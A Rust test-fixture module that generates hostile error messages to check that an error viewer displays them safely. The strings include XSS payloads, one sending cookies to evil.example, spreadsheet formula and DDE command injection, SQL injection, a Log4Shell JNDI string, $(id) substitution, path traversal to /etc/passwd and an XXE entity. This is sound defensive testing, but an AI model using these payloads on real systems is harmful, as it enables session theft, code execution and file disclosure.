//! Messages that nobody means well with, or that nobody thought about: what strangers type into web forms and
//! what broken systems echo back. The desk must show each of them as text and survive them all.

use super::super::chance::Chance;
use crate::model::Failure;

/// Code and message of each; some are made longer by [`hostile`].
pub(crate) static HOSTILE: &[(&str, &str)] = &[
    ("XSS_IMG", "Lead refused: company is <img src=x onerror=alert(document.cookie)>"),
    ("XSS_SCRIPT", "</script><script>fetch('https://evil.example/'+document.cookie)</script>"),
    ("XSS_SVG", "\"><svg/onload=alert(1)><a href=\"javascript:alert(2)\" onclick=alert(3)>open me</a>"),
    (
        "JS_LINK",
        "See javascript:alert(1) or [details](javascript:void(document.location='https://evil.example'))",
    ),
    (
        "STYLE",
        "<style>*{display:none!important}</style><meta http-equiv=refresh content=0;url=https://evil.example>",
    ),
    ("RTL_OVERRIDE", "File \u{202e}gpj.exe\u{202c} was refused, and \u{2066}this\u{2069} too"),
    ("ZERO_WIDTH", "pass\u{200b}word and ad\u{200d}min and \u{feff}BOM and soft\u{ad}hyphen"),
    ("NUL", "before\u{0}after, \u{1}\u{2}\u{8}\u{b}\u{c}\u{1f} and \u{7f}"),
    ("ANSI", "\u{1b}[31;1mFATAL\u{1b}[0m \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[1;1Hcleared\r overwritten"),
    (
        "MARKS",
        "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}a\u{308}\u{309}\u{30a}\u{30b}\u{30c}\u{30d}lgo",
    ),
    ("FORMULA", "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")"),
    ("FORMULA_CMD", "=cmd|'/C calc'!A0"),
    ("FORMULA_AT", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("FORMULA_PLUS", "+1+1;-2+3\t=1"),
    ("LONG_WORD", "Unbroken: "),
    ("SQL", "'; DROP TABLE error_record; -- \" OR \"\"=\""),
    ("FTS", "\"unbalanced AND (NEAR/3 OR * NOT ^ col:x \"\" title : -{}"),
    ("LIKE", "100%_off\\% [a-z]* ESCAPE '\\'"),
    ("FORMAT", "{} {0} {name!r} %s %n %x ${jndi:ldap://evil.example/a} {{7*7}} #{7*7} `id` $(id)"),
    ("PATH", "../../../../etc/passwd and C:\\Windows\\System32\\..\\..\\NUL and file:///etc/shadow"),
    (
        "JSON",
        "{\"errors\":[{\"message\":\"\\\"nested \\\\\\\"quotes\\\\\\\"\\\"\",\"__proto__\":{\"polluted\":true}}],\"deep\":",
    ),
    ("XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
    ("LINES", "one\r\ntwo\u{2028}three\u{2029}four\u{85}five\n\n\n\n\nsix"),
    ("TAGS", "\u{e0041}\u{e0042} hidden tags, private \u{e000}\u{f8ff} and last \u{10ffff}\u{fffd}"),
    ("WIDE", "﷽ ꧅ 𒐫 𒈙 ⸻ and 👨‍👩‍👧‍👦🏳️‍🌈🇨🇿"),
    ("HUGE", "Echo of the whole page follows. "),
    ("EMPTY", ""),
    ("BLANK", " \u{a0}\u{2003}\u{3000}\t "),
];

/// The hostile failure at this place; places beyond the last start over.
pub(crate) fn hostile(place: usize, chance: &mut Chance) -> Failure {
    let (code, text) = HOSTILE.get(place % HOSTILE.len()).copied().unwrap_or_default();
    let message = match code {
        "LONG_WORD" => format!("{text}{}", "Donaudampfschifffahrtsgesellschaft".repeat(30)),
        "MARKS" => format!("{text}{}", "\u{489}\u{334}\u{337}\u{35c}".repeat(400)),
        "JSON" => format!("{text}{}{}}}", "[".repeat(300), "]".repeat(300)),
        "HUGE" => format!(
            "{text}{}",
            format!("<div class=\"r{}\">{{\"row\":{}}}</div>\n", chance.below(9), chance.below(999))
                .repeat(900)
        ),
        _ => text.to_owned(),
    };
    Failure {
        code: if code == "FORMULA" { "=1+1".to_owned() } else { code.to_owned() },
        message,
        source: "application".to_owned(),
        classification: Some("value".to_owned()),
        http_status: 400,
        http_method: "POST".to_owned(),
        retry_success_percent: Some(10),
        ..Failure::default()
    }
}
